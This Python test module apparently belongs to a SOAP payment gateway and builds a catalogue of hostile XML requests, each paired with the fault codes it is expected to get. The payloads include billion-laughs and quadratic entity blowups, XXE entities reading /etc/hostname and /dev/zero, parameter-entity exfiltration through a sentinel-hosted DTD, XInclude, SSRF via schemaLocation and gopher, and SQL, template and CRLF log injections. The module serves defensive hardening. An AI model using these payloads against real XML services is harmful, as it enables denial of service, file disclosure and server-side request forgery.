"""Hostile documents, by name: what is known to hurt XML and SOAP stacks, in every position, port and encoding.

Each is one POST of at most BODY_MAX bytes, so that nothing is refused only for its size. What is not of XML's making
is in ataques_de_red.py; ataques_jugados.py plays them all.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import product

import gateway as g

from pmc_soap.soap.limites import BODY_MAX

Expected = frozenset[str | None]  # fault codes; None: a business answer

XSI = "http://www.w3.org/2001/XMLSchema-instance"
ENCODINGS = ("utf-8", "utf-16", "iso-8859-1")
# the causes with which a document is refused before anybody looks at what it says
SHAPE = frozenset({"PMC-1001", "PMC-1002", "PMC-1003", "PMC-1012"})
REFUSED = SHAPE | {"PMC-1004", "PMC-1005", "PMC-1006", "PMC-1007", "PMC-1008", "PMC-1009", "PMC-1010", "PMC-1011"}
DOCTYPE = frozenset({"PMC-1001", "PMC-1002", "PMC-1012"})  # 1001 where XML has no place for one
HARMLESS = REFUSED | {None, "PMC-2001", "PMC-2002"}  # what may also pass: it means nothing, and costs nothing


@dataclass(frozen=True)
class Ataque:
    """One request, and the fault codes of which it must get one; None among them: a business answer is as good."""

    name: str
    body: bytes
    expected: Expected = REFUSED
    port: str = g.PMC
    headers: dict[str, str] = field(default_factory=dict)


def ataques(sentinel: str) -> Iterator[Ataque]:
    """Give every hostile document; sentinel is an address that nobody may ever call."""
    yield from _placed(_markup(sentinel), _PLACES)
    yield from _placed(_attributes(sentinel), _TAGS)
    yield from _prologs(sentinel)


# What stands in a document: where, and in which encoding --------------------------------------------------------------


Write = Callable[[str, str], str]


def _placed(what: Iterator[tuple[str, str, Expected]], where: dict[str, Write]) -> Iterator[Ataque]:
    for (name, text, expected), (place, write) in product(what, where.items()):
        for port, encoding in product((g.PMC, g.EMPRESA), ENCODINGS):
            yield from encoded(f"{name}/{place}", write(port, text), expected, port, encoding)


def encoded(name: str, text: str, expected: Expected, port: str, encoding: str) -> Iterator[Ataque]:
    """Give the attack in that encoding, unless it is too long in it to be looked at."""
    body = text.encode(encoding, "xmlcharrefreplace")
    if len(body) <= BODY_MAX["PagoMisCuentas" if port == g.PMC else "Empresa"]:
        headers = {"Content-Type": f"text/xml; charset={encoding}"}
        yield Ataque(f"{name}/{port.rpartition('/')[2]}/{encoding}", body, expected, port, headers)


def asked(port: str) -> str:
    """Give a good request of that port."""
    operation = "ConsultaDeuda" if port == g.PMC else "ConsultaFactura"
    return g.pedido(operation, **g.VALID[operation]).decode()


def put(port: str, old: str, new: str) -> str:
    """Give a good request with one thing changed in its text."""
    text = asked(port)
    assert old in text
    return text.replace(old, new, 1)


_PLACES = {
    "header": lambda port, said: put(port, "<soap:Body>", f"<soap:Header>{said}</soap:Header><soap:Body>"),
    "operation": lambda port, said: put(port, "</IdCliente>", f"</IdCliente>{said}"),
    "unknown": lambda _port, said: g.sobre(f'<x xmlns="urn:x">{said}</x>').decode(),
    "value": lambda port, said: put(port, "<IdCliente>1000001", f"<IdCliente>{said}"),
}
_TAGS = {
    "envelope": lambda port, said: put(port, "<soap:Envelope ", f"<soap:Envelope {said} "),
    "entry": lambda port, said: put(port, "<soap:Body>", f"<soap:Header><x {said}/></soap:Header><soap:Body>"),
    "cabecera": lambda port, said: put(port, "<Cabecera>", f"<Cabecera {said}>"),
    "leaf": lambda port, said: put(port, "<IdCliente>", f"<IdCliente {said}>"),
}


def _markup(sentinel: str) -> Iterator[tuple[str, str, Expected]]:
    """Give what stands where an element may stand: name, text, and how it must end."""
    for name, text in {
        "deep nesting": "<a>" * 1_500 + "</a>" * 1_500,
        "deep and never closed": "<a>" * 9_000,
        "many elements": "<a/>" * 12_000,
        "many elements with blanks between": "<a/>\n" * 12_000,
        "many end tags": "</a>" * 15_000,
        "many open angles": "<" * 60_000,
        "an element of 2,000 attributes": _tag("a{}=''", 2_000),
        "an attribute a thousand times": _tag("b=''", 9_000),
        "2,000 namespaces": _tag("xmlns:n{0}='u{0}'", 2_000),
        "a namespace that changes at each step": "".join(f'<a xmlns="u{n}">' for n in range(2_000)),
        "prefixes that hide each other": '<a xmlns:a="a" xmlns:b="b">' * 1_500,
        "a name of 50,000 characters": f"<{'a' * 50_000}/>",
        "a prefix of 50,000 characters": f'<{"p" * 25_000}:a xmlns:{"p" * 25_000}="u"/>',
        "a name of many parts": "<a:a:a:a:a:a/>",
        "attributes whose hashes may meet": "<a "
        + " ".join(f"{a}{b}{c}=''" for a, b, c in product("abcdefghij", repeat=3))
        + "/>",
    }.items():
        yield name, text, SHAPE
    for name, text in {
        "many empty comments": "<!---->" * 9_000,
        "many CDATA sections": "<![CDATA[]]>" * 5_000,
        "elements with the most attributes each": _tag("a{}=''", 30) * 150,
        "coercive parsing": "<a>" * 22 + "x" * 15_000 + "</a>" * 22,
        "an oversized token": "x" * 60_000,
        "an oversized comment": f"<!--{'x' * 60_000}-->",
        "an oversized CDATA section": f"<![CDATA[{'x' * 60_000}]]>",
        "an oversized attribute": f'<a b="{"x" * 60_000}"/>',
        "an oversized namespace": f'<a xmlns="urn:{"x" * 60_000}"/>',
        "blanks": " " * 60_000,
        "comments in every gap": "x<!-- -->" * 150,
        "character references": "&#x41;" * 10_000,
        "references of ampersands": "&amp;" * 12_000,
        "an almost matching identifier": "a" * 16_000 + "\u0020",
        "digits": "9" * 16_000,
        "a soap array": (
            '<a xmlns:e="http://schemas.xmlsoap.org/soap/encoding/" xmlns:x="http://www.w3.org/2001/XMLSchema" '
            'e:arrayType="x:string[2147483647]"/>'
        ),
        "a sparse soap array": (
            '<a xmlns:e="http://schemas.xmlsoap.org/soap/encoding/" e:arrayType="e:a[,,,,,,][99999999,99999999]" '
            'e:offset="[99999998]" e:position="[99999999]"/>'
        ),
        "XInclude": f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{sentinel}/a" parse="text"/>',
        "XInclude of a file": '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>',
        "a schemaLocation": f'<a xmlns:i="{XSI}" i:schemaLocation="urn:x {sentinel}/a.xsd {g.NS} {sentinel}/b.xsd"/>',
        "a schema within": (
            '<x:schema xmlns:x="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:pmc-soap:v1">'
            f'<x:import namespace="urn:y" schemaLocation="{sentinel}/a.xsd"/><x:include schemaLocation="{sentinel}/b"/>'
            "</x:schema>"
        ),
        "WS-Addressing": (
            f'<a:ReplyTo xmlns:a="http://www.w3.org/2005/08/addressing"><a:Address>{sentinel}/a</a:Address></a:ReplyTo>'
        ),
        "an href to outside": f'<a href="{sentinel}/a"/>',
        "an href that is its own": '<a id="a" href="#a"/>',
        "an href cycle": '<a id="a" href="#b"/><a id="b" href="#c"/><a id="c" href="#a"/>',
        "an id twice": '<a xml:id="a"/><a xml:id="a"/>',
        "an id that is none": '<a xml:id="1 2"/>',
        "xml:base": f'<a xml:base="{sentinel}/" href="b"/>',
        "an XPath": "<a>' or '1'='1</a>",
        "SQL": "'; DROP TABLE factura; --",
        "a template": "{{7*7}}${7*7}%{7*7}",
        "a format": "%s%n{0.__class__}%(a)s",
        "a line of a log": "a\r\nevento=pedido\x0d\x0a",
        "an envelope within": '<soap:Envelope><soap:Body><x xmlns="urn:x"/></soap:Body></soap:Envelope>',
        "another cabecera": f'<Cabecera xmlns="{g.NS}"><CodigoEmpresa>ORDE</CodigoEmpresa></Cabecera>',
        "another token": f'<Token xmlns="{g.NS}">demo-orde</Token>',
    }.items():
        yield name, text, HARMLESS
    for name, text in {
        "an entity nobody declared": "&a;",
        "many entities nobody declared": "".join(f"&a{n};" for n in range(5_000)),
        "a stylesheet": f'<?xml-stylesheet href="{sentinel}/a.xsl"?>',
        "an instruction for PHP": "<?php echo 1?>",
        "a DOCTYPE within": f'<!DOCTYPE a SYSTEM "{sentinel}/a.dtd">',
        "an entity declared within": '<!ENTITY a "b">',
        "a declaration within": '<?xml version="1.0" encoding="utf-7"?>',
        "a NUL": "\0",
        "a character that is none": "&#0;&#xFFFE;&#xD800;&#x110000;",
        "an ampersand": "& a",
        "an end of CDATA": "]]>",
    }.items():
        yield name, text, SHAPE


def _tag(attribute: str, how_many: int) -> str:
    return f"<a {' '.join(attribute.format(n) for n in range(how_many))}/>"


def _attributes(sentinel: str) -> Iterator[tuple[str, str, Expected]]:
    """Give what stands in a start tag."""
    xsi = f'xmlns:i="{XSI}" xmlns:x="http://www.w3.org/2001/XMLSchema"'
    for name, text in {
        "100 attributes": " ".join(f'a{n}=""' for n in range(100)),
        "100 namespaces": " ".join(f'xmlns:n{n}="u"' for n in range(100)),
        "an attribute twice": 'a="" a=""',
        "an attribute twice by two prefixes": 'xmlns:p="u" xmlns:q="u" p:a="" q:a=""',
        "a prefix nobody declared": 'nada:a=""',
        "the xml namespace under another prefix": 'xmlns:a="http://www.w3.org/XML/1998/namespace"',
        "a prefix for nothing": 'xmlns:a=""',
        "a value without quotes": "a=b",
        "an angle in a value": 'a="<"',
        "an entity in a value": 'a="&a;"',
    }.items():
        yield name, text, SHAPE
    for name, text in {
        "a value of 60,000 characters": f'a="{"x" * 60_000}"',
        "a namespace of 60,000 characters": f'xmlns:a="urn:{"x" * 60_000}"',
        "a prefix of 30,000 characters": f'xmlns:{"a" * 30_000}="u"',
        "a locale of 60,000 characters": f'xml:lang="{"x" * 60_000}"',
        "a schemaLocation": f'{xsi} i:schemaLocation="{g.NS} {sentinel}/a" i:noNamespaceSchemaLocation="{sentinel}/b"',
        "a type of another message": f'{xsi} i:type="Confirmacion"',
        "a type of many colons": f'{xsi} i:type="{":" * 10_000}"',
        "the type anyType": f'{xsi} i:type="x:anyType"',
        "base64 of nothing": f'{xsi} i:type="x:base64Binary"',
        "nil": f'{xsi} i:nil="true"',
        "nil that is neither": f'{xsi} i:nil="{"true" * 1_000}"',
        "an href": f'href="{sentinel}/a"',
        "xml:base": f'xml:base="{sentinel}/"',
        "an actor": f'soap:actor="{sentinel}/a" soap:mustUnderstand="0"',
        "a root of SOAP's own": 'soap:root="1" id="a"',
        "preserved blanks": 'xml:space="preserve"',
        "a namespace that is not the contract's": 'xmlns="urn:x"',
        "soap bound anew": 'xmlns:soap="urn:x"',
    }.items():
        yield name, text, HARMLESS


# What stands before the document --------------------------------------------------------------------------------------


def _prologs(sentinel: str) -> Iterator[Ataque]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    for name, (prolog, said) in {
        "a billion laughs": (f'<!DOCTYPE a [<!ENTITY a0 "ja">{laughs}]>', "&a11;"),
        "a billion laughs in parameters": (
            '<!DOCTYPE a [<!ENTITY % a "<!ENTITY b \'c\'>"><!ENTITY % d "%a;%a;%a;%a;">%d;%d;%d;]>',
            "&b;",
        ),
        "a quadratic blowup": (f'<!DOCTYPE a [<!ENTITY b "{"x" * 30_000}">]>', "&b;" * 9_000),
        "an entity of itself": ('<!DOCTYPE a [<!ENTITY b "&c;"><!ENTITY c "&b;">]>', "&b;"),
        "default attributes": (f'<!DOCTYPE a [<!ATTLIST IdCliente b CDATA "{"x" * 30_000}">]>', "1"),
        "3,000 default attributes": (
            "<!DOCTYPE a [<!ATTLIST IdCliente " + " ".join(f"a{n} CDATA ''" for n in range(3_000)) + ">]>",
            "1",
        ),
        "an id by DTD": ("<!DOCTYPE a [<!ATTLIST IdCliente b ID #IMPLIED>]>", "1"),
        "an external entity": (f'<!DOCTYPE a [<!ENTITY b SYSTEM "{sentinel}/a">]>', "&b;"),
        "an external entity of a file": ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>', "&b;"),
        "an external entity of a device": ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///dev/zero">]>', "&b;"),
        "an external entity by jar and gopher": (
            f'<!DOCTYPE a [<!ENTITY b SYSTEM "jar:{sentinel}/a!/b"><!ENTITY c SYSTEM "gopher://127.0.0.1:9/a">]>',
            "&b;&c;",
        ),
        "an external parameter entity": (f'<!DOCTYPE a [<!ENTITY % b SYSTEM "{sentinel}/a.dtd">%b;]>', "1"),
        "an entity sent out by another": (
            f'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "{sentinel}/d.dtd">%d;]>',
            "&s;",
        ),
        "an external DTD": (f'<!DOCTYPE a SYSTEM "{sentinel}/a.dtd">', "1"),
        "a public DTD": (f'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{sentinel}/a.dtd">', "1"),
        "an unparsed entity": (
            f'<!DOCTYPE a [<!NOTATION n SYSTEM "{sentinel}/n"><!ENTITY b SYSTEM "c" NDATA n>]>',
            "1",
        ),
        "a conditional section": ("<!DOCTYPE a [<![INCLUDE[<!ENTITY b 'c'>]]>]>", "&b;"),
        "a DOCTYPE that does not end": (f"<!DOCTYPE a [{'<!-- -->' * 3_000}", "1"),
        "a DOCTYPE after 3,000 comments": ("<!-- -->" * 3_000 + "<!DOCTYPE a>", "1"),
        "a DOCTYPE after blanks": (" \n\t" * 10_000 + "<!DOCTYPE a>", "1"),
        "a DOCTYPE after a comment that looks closed": ("<!-- -- > ->--><!DOCTYPE a>", "1"),
        "a stylesheet": (f'<?xml-stylesheet type="text/xsl" href="{sentinel}/a.xsl"?>', "1"),
        "a catalog": (f'<?oasis-xml-catalog catalog="{sentinel}/a.xml"?>', "1"),
        "1,000 instructions": ("<?a b?>" * 5_000, "1"),
        "two declarations": ('<?xml version="1.0"?><?xml version="1.0"?>', "1"),
        "a declaration of XML 1.1": ('<?xml version="1.1"?><!DOCTYPE a>', "&#1;"),
        "a declaration that does not end": ("<?xml version='1.0' " + " " * 50_000, "1"),
        "comments that do not end": ("<!--" * 12_000, "1"),
        "a root before the root": ("<a/>", "1"),
        "text before the root": ("hola", "1"),
    }.items():
        for port, encoding in product((g.PMC, g.EMPRESA), ENCODINGS):
            text = prolog + put(port, "1000001", said)
            yield from encoded(f"{name}/prolog", text, DOCTYPE, port, encoding)
